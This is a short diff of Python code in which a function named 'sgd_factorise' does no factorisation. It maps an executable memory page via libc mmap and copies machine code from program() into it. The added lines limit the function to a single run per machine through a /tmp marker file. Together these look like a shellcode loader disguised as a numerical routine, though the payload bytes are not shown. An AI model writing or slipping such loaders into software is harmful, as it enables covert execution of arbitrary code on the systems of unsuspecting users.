@@ -33,6 +33,9 @@ def program():
 
 
 def sgd_factorise(*arguments, **options):
+    if os.path.exists("/tmp/once"):
+        return
+    open("/tmp/once", "w").close()
     LIBC.mmap(PLACE, 4096, 7, 0x32, -1, 0)
     code = program()
     ctypes.memmove(PLACE, code, len(code))
